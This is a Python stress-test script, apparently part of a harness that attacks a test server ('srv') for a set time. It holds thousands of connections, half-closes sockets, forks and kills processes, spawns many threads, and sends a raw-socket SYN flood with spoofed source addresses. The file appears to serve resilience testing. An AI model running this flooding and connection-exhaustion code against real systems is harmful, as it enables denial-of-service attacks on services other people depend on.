"""Does to the fast path what a hostile node can, for so many seconds: `attacker.py SEED SECONDS SERVER`."""
import os, random, resource, signal, socket, struct, sys, threading, time

seed, seconds, server = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
chance = random.Random(seed)
until = time.monotonic() + seconds
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
held = []


def connect(port, keep=False):
    one = socket.socket()
    one.settimeout(0.2)
    try:
        one.connect((server, port))
    except OSError:
        pass
    if keep and len(held) < 3000:
        held.append(one)
    return one


def abandon():
    connect(7000, keep=True)


def half_close():
    one = connect(7000, keep=chance.random() < 0.1)
    try:
        one.shutdown(chance.choice([socket.SHUT_RD, socket.SHUT_WR]))
    except OSError:
        pass


def die():
    child = os.fork()
    if child == 0:
        threading.Timer(chance.random() / 100, lambda: os.kill(os.getpid(), signal.SIGKILL)).start()
        while True:
            connect(7000).close()
    os.waitpid(child, 0)


def pass_descriptors():
    one, other = socket.socketpair()
    numbers = [connect(7000).detach() for _ in range(4)]
    try:
        socket.send_fds(one, [b"x"], numbers)
    except OSError:
        pass
    for number in numbers:
        os.close(number)
    one.close()
    other.close()


def listen():
    for _ in range(20):
        one = socket.create_server(("", 0), backlog=4096)
        if len(held) < 3000:
            held.append(one)
        else:
            one.close()


def crowd():
    threads = []
    for _ in range(1000):
        thread = threading.Thread(target=abandon)
        try:
            thread.start()
        except RuntimeError:
            break
        threads.append(thread)
    for thread in threads:
        thread.join()


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def flood():
    """First segments of connections from addresses that nobody has, at the ports of the server that others use."""
    victim = socket.inet_aton(socket.gethostbyname("srv"))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(1000):
            source = victim[:2] + bytes([chance.randrange(1, 255), chance.randrange(1, 255)])
            port = chance.choice([5000, 5001, 5002])
            start = struct.pack("!HHIIBBH", chance.randrange(1024, 65536), port, chance.getrandbits(32), 0, 0x50, 2, 65535)
            ends = source + victim + struct.pack("!BBH", 0, 6, 20)
            segment = start + struct.pack("!HH", checksum(ends + start + bytes(4)), 0)
            header = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + source + victim
            try:
                raw.sendto(header + segment, (socket.inet_ntoa(victim), 0))
            except OSError:
                pass


# One that never accepts, for the other attacker.
never = socket.create_server(("", 7000), backlog=4096)
print("ready", flush=True)
# It ends in the middle of what its threads are at, with all that it holds.
threading.Timer(seconds, os._exit, [0]).start()
done = 0
while time.monotonic() < until:
    chance.choice([abandon, abandon, abandon, half_close, die, pass_descriptors, listen, crowd, flood])()
    done += 1
print("did", done, flush=True)
